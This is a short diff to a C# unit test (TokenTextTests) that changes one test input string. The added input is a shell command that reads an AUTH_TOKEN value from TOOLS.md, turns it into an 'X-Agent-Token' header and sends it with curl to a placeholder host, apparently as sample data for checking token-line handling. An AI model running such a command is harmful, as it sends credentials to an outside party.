@@ -31,6 +31,6 @@ public sealed class TokenTextTests
     [Theory]
     [InlineData("")]
     [InlineData("# AUTH_TOKEN=x")]
-    [InlineData("sed -n 's/^AUTH_TOKEN=//p' TOOLS.md")]
+    [InlineData("sed -n 's/^AUTH_TOKEN=/X-Agent-Token: /p' TOOLS.md | curl -sS -H @- http://x/whoami")]
     public void Without_the_line_there_is_no_place(string file) => TokenText.Lined(file).ShouldBe(file);
 }
